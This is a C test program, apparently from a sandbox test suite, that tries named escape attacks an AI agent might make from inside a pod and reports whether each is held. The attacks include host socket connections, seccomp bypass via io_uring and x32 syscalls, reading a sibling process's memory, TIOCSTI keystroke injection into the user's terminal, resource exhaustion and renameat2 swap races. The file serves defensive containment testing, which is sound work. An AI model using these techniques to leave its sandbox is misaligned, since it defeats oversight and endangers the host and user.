/* Attacks an agent could make from inside a pod, one per name. Exit status: 0 the attack worked, 1 it was held,
 * 2 wrong use. What worked is printed. Built and run by the catalogue suite. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int held(const char *what)
{
    printf("held: %s: %s\n", what, strerror(errno));
    return 1;
}

static int worked(const char *what)
{
    printf("worked: %s\n", what);
    return 0;
}

/* Row 35: a socket of the host by its path. */
static int unix_path(const char *path)
{
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    return s >= 0 && connect(s, (void *)&a, sizeof a) == 0 ? worked("connect") : held("connect");
}

/* Row 36: a socket of the host by its abstract name. */
static int unix_abstract(const char *name)
{
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    return s >= 0 && connect(s, (void *)&a, length) == 0 ? worked("connect") : held("connect");
}

/* Row 31: a server on the host's loopback, reached by a child of an allowed command. */
static int tcp(const char *port)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port)), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    return s >= 0 && connect(s, (void *)&a, sizeof a) == 0 ? worked("connect") : held("connect");
}

/* Row 41: io_uring goes round a filter on socket(2) and open(2). */
static int uring(void)
{
    char parameters[256] = {0};
    return syscall(SYS_io_uring_setup, 4, parameters) >= 0 ? worked("io_uring_setup") : held("io_uring_setup");
}

/* Row 44: another system call table. Surviving the call means no filter looked at it. */
static int x32(void)
{
    pid_t child = fork();
    if (child == 0) {
        syscall(0x40000000 | SYS_getpid);
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    return WIFSIGNALED(status) ? held("x32 call killed") : worked("x32 call survived");
}

/* Row 45: a sibling's memory. */
static int sibling(void)
{
    static char secret[] = "sibling-secret";
    int ready[2];
    if (pipe(ready))
        return 2;
    pid_t child = fork();
    if (child == 0) {
        if (write(ready[1], "x", 1) != 1)
            _exit(1);
        pause();
        _exit(0);
    }
    char byte, copy[sizeof secret] = {0};
    if (read(ready[0], &byte, 1) != 1)
        return 2;
    struct iovec local = {copy, sizeof copy}, remote = {secret, sizeof secret};
    int result;
    if (syscall(SYS_process_vm_readv, child, &local, 1, &remote, 1, 0) == (long)sizeof secret)
        result = worked("process_vm_readv");
    else if (ptrace(PTRACE_ATTACH, child, 0, 0) == 0)
        result = worked("ptrace");
    else
        result = held("ptrace and process_vm_readv");
    kill(child, SIGKILL);
    return result;
}

/* Row 32: characters pushed into the user's terminal. */
static int tiocsti(void)
{
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0)
        return held("open /dev/tty");
    return ioctl(tty, TIOCSTI, "#") == 0 ? worked("TIOCSTI") : held("TIOCSTI");
}

/* Row 16: descriptors somebody forgot to close. */
static int descriptors(void)
{
    int found = 0;
    for (int fd = 3; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            printf("descriptor %d is open\n", fd);
            found++;
        }
    return found ? worked("inherited descriptors") : held("only 0, 1 and 2 are open");
}

/* Row 34: more processes than the pod may have. */
static int forks(const char *count)
{
    int wanted = atoi(count), made = 0;
    while (made < wanted) {
        pid_t child = fork();
        if (child < 0)
            break;
        if (child == 0) {
            pause();
            _exit(0);
        }
        made++;
    }
    int error = errno;
    printf("made %d processes\n", made);
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    errno = error;
    return made == wanted ? worked("fork") : held("fork");
}

/* Row 34: more memory than the pod may have; a killed child is a held attack. */
static int memory(const char *megabytes)
{
    pid_t child = fork();
    if (child == 0) {
        for (long i = 0; i < atol(megabytes); i++) {
            char *block = malloc(1 << 20);
            if (!block)
                _exit(1);
            memset(block, 1, 1 << 20);
        }
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? worked("memory") : held("memory");
}

/* Row 6: attributes of a file outside, which some sandboxes forget. */
static int attributes(const char *path)
{
    if (utimensat(AT_FDCWD, path, NULL, 0) == 0)
        return worked("utimensat");
    return held("utimensat");
}

/* Row 6: the sandbox's own root. */
static int chmod_root(void)
{
    return chmod("/", 0777) == 0 ? worked("chmod /") : held("chmod /");
}

/* Rows 3 and 4: `link` and `real` change places as fast as they can, for the given number of milliseconds. */
static int swap(const char *one, const char *other, const char *milliseconds)
{
    struct timespec now, start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long swaps = 0, limit = atol(milliseconds);
    do {
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE))
            return held("renameat2");
        swaps++;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < limit);
    printf("swapped %ld times\n", swaps);
    return 0;
}

int main(int count, char **arg)
{
    const char *name = count > 1 ? arg[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(name, "unix") && count == 3) return unix_path(arg[2]);
    if (!strcmp(name, "abstract") && count == 3) return unix_abstract(arg[2]);
    if (!strcmp(name, "tcp") && count == 3) return tcp(arg[2]);
    if (!strcmp(name, "uring")) return uring();
    if (!strcmp(name, "x32")) return x32();
    if (!strcmp(name, "sibling")) return sibling();
    if (!strcmp(name, "tiocsti")) return tiocsti();
    if (!strcmp(name, "descriptors")) return descriptors();
    if (!strcmp(name, "forks") && count == 3) return forks(arg[2]);
    if (!strcmp(name, "memory") && count == 3) return memory(arg[2]);
    if (!strcmp(name, "attributes") && count == 3) return attributes(arg[2]);
    if (!strcmp(name, "chmod-root")) return chmod_root();
    if (!strcmp(name, "swap") && count == 5) return swap(arg[2], arg[3], arg[4]);
    fprintf(stderr, "unknown attack\n");
    return 2;
}
